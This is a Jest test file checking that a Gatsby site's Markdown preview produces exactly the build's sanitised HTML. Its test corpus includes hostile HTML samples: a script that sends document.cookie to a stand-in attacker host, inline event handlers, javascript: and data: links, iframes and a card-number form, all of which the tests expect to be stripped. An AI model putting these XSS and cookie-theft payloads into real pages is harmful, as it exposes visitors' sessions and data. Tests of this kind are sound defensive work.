/**
 * @jest-environment node
 *
 * The studio's preview and the build publish the same HTML, the HTML gatsby-transformer-remark
 * makes: one corpus of Markdown, from what a coach writes to hostile HTML, goes through the
 * transformer (with the site's options, through the site's sanitiser), through the build's html
 * field and through contract/post-markdown.ts, and the answers must be identical, character for
 * character. The module is also bundled for the browser and run where Node's globals are missing,
 * as the studio will run it.
 */
import { join } from "node:path"
import { JSDOM } from "jsdom"
import { postHtml, unsanitisedPostHtml, EXCERPT_SEPARATOR } from "../contract/post-markdown"
import { sanitisePostHtml } from "../contract/sanitise-post-html"
import { markdownNode, remarkOptions, siteFields, transformerFields } from "./helpers/remark-transformer"

const CORPUS: Record<string, string> = {
  headings: "## What changed\n\nText.\n\n### In the first week\n\nMore.\n\n#### A detail\n\nSetext heading\n---------------\n",
  emphasis: "Some **strong**, *emphasised*, _also emphasised_, ~~struck~~ and `inline code` words.\n\nA line  \nbreak.",
  links:
    "[Get in touch](/contact/), [read the report](https://example.com/report \"The report\"), [write](mailto:hello@example.com), " +
    "<https://example.com/auto>, www.example.com and a [reference][ref].\n\n[ref]: https://example.com/ref",
  lists: "- One\n- Two\n  - Two and a half\n\n3. Three\n4. Four\n\n- [ ] to do\n- [x] done",
  quotes: "> A quotation\n> over two lines.\n>\n> > And one inside it.",
  images:
    "![The team at the awayday](/static/awayday.jpg)\n\n![](https://example.com/no-description.jpg)\n\n" +
    '![A cover](https://example.com/cover.jpg "Cover")\n\n![Referenced][pic]\n\n[pic]: https://example.com/pic.jpg',
  code: "```ts title=\"example.ts\"\nconst a = 1 < 2\n```\n\n    indented code\n\n```\n<script>alert(1)</script>\n```",
  tables: "| Week | What | Owner |\n| :--- | :---: | ---: |\n| One | Listen | Coach |\n| Two | *Decide* | Team |",
  footnotes: "A claim.[^1] And an inline note.^[Said in passing.]\n\n[^1]: The source of the claim.",
  excerpt: `The opening paragraph.\n\n${EXCERPT_SEPARATOR}\n\n## The rest\n\nBelow the fold.`,
  "thematic break and entities": "Before\n\n***\n\nAfter &amp; &copy; & < > \"quoted\"",
  scripts: 'Hello.\n\n<script>fetch("https://attacker.example/?c=" + document.cookie)</script>\n\nAfter <script>alert(1)</script> inline.',
  "event handlers": '<img src="/static/a.jpg" alt="A" onerror="alert(1)">\n\n<p onclick="alert(2)">Click</p>\n\nText <b onmouseover="alert(3)">bold</b>.',
  "javascript: links":
    "[Markdown link](javascript:alert(1)) and <a href=\"javascript:alert(2)\">raw link</a> and [data](data:text/html,<b>x</b>) " +
    "and [plain http](http://example.com/) and [protocol-relative](//elsewhere.example/).\n\n![pic](javascript:alert(3))",
  iframes: '<iframe src="https://elsewhere.example/"></iframe>\n\nText <object data="x.swf"></object><embed src="y.swf">',
  style: '<style>body { display: none }</style>\n\n<p style="color: red">Red</p>\n\n<div class="callout" id="note">Note</div>',
  "other raw HTML": "<details><summary>More</summary>Hidden</details>\n\n<form action=\"https://elsewhere.example/\"><input name=\"card\"></form>\n\n<!-- a comment -->",
}

/** A post file holding the corpus entry as its body, as content/blog/<slug>/index.md would. */
const postFile = (body: string) => `---\ntitle: Corpus\ndate: 2026-01-01\ndescription: A corpus.\ntags: [test]\n---\n\n${body}\n`

/** What gatsby-transformer-remark makes of the post file, through the site's sanitiser. */
const transformerHtml = async (body: string) => {
  const own = await transformerFields()
  return sanitisePostHtml(String(await own.html.resolve(await markdownNode(postFile(body), "/content/blog/corpus/index.md", "corpus"), {}, undefined, {})))
}

/** The post page's HTML as the build makes it: the site's html field, read from the node the transformer made of the file. */
const builtHtml = async (body: string) => {
  const field = await siteFields()
  return String(await field("html", await markdownNode(postFile(body), "/content/blog/corpus/index.md", "corpus")))
}

describe("the preview's Markdown rules are the build's", () => {
  it("gives the transformer the excerpt separator it names", () => {
    expect(remarkOptions()).toMatchObject({ excerpt_separator: EXCERPT_SEPARATOR })
  })

  it.each(Object.entries(CORPUS))("renders %s exactly as the transformer does", async (_name, body) => {
    const html = postHtml(body)
    expect(html).toBe(await transformerHtml(body))
    expect(html).not.toBe("")
  })

  it("renders the whole corpus as one post exactly as the transformer and the build do", async () => {
    const body = Object.values(CORPUS).join("\n\n")
    expect(postHtml(body)).toBe(await transformerHtml(body))
    expect(postHtml(body)).toBe(await builtHtml(body))
  })

  it("makes what the transformer makes before the sanitiser too", async () => {
    const body = Object.values(CORPUS).join("\n\n")
    const own = await transformerFields()
    const node = await markdownNode(postFile(body), "/content/blog/raw/index.md", "raw")
    // The transformer's code handler adds data-meta to a code block with a title; the sanitiser drops it.
    const raw = String(await own.html.resolve(node, {}, undefined, {})).replace(/ data-meta="[^"]*"/g, "")
    expect(unsanitisedPostHtml(body)).toBe(raw)
  })
})

describe("what the preview shows of a post", () => {
  const corpus = postHtml(Object.values(CORPUS).join("\n\n"))

  it("keeps what Markdown makes: headings, lists, quotes, tables, footnotes, code and images", () => {
    for (const kept of ["<h2>What changed</h2>", "<strong>strong</strong>", "<del>struck</del>", '<ol start="3">', "<blockquote>", '<td align="left">One</td>', '<a href="#user-content-fn-1"', '<code class="language-ts">', '<img src="/static/awayday.jpg" alt="The team at the awayday" />', '<a href="mailto:hello@example.com">']) {
      expect(corpus).toContain(kept)
    }
  })

  it("carries no script, handler, frame, style or unsafe address", () => {
    expect(corpus).not.toMatch(/<script|onerror|onclick|onmouseover|javascript:|data:text|<iframe|<object|<embed|<style|style=|<form|<input|http:\/\/|\/\/elsewhere/i)
  })
})

describe("the preview in the browser", () => {
  it("bundles for the browser and renders the corpus there as in Node", async () => {
    // esbuild comes with tsx; bundling for the browser fails on any Node built-in the module would need.
    const { build } = require("esbuild") as typeof import("esbuild")
    const bundle = await build({
      stdin: { contents: 'import { postHtml } from "./contract/post-markdown"; globalThis.render = postHtml', resolveDir: join(__dirname, ".."), loader: "ts" },
      bundle: true,
      platform: "browser",
      format: "iife",
      write: false,
      logLevel: "silent",
    })
    // A page's window: a document, and no process, Buffer, require or module.
    const { window } = new JSDOM("<!doctype html>", { runScripts: "outside-only" })
    window.eval(bundle.outputFiles[0].text)
    const body = Object.values(CORPUS).join("\n\n")
    expect((window as unknown as { render: (markdown: string) => string }).render(body)).toBe(postHtml(body))
    window.close()
  }, 30_000)
})
